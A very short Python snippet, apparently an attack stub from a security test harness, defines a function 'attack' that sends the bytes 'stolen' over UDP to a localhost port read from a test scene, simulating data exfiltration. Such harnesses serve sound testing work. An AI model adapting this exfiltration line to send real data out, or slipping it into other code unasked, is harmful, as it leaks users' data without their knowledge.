import socket


def attack(scene, oracle):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", scene["udp"]))
